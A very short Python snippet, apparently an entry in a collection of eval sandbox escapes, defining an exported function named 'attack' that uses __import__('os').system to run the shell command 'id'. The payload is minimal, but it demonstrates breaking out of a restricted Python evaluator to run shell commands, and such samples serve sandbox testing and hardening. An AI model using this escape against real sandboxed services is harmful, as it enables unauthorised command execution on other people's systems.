# escape: __import__('os') | source: classic eval sandbox escapes
@export
def attack():
    return __import__('os').system('id')
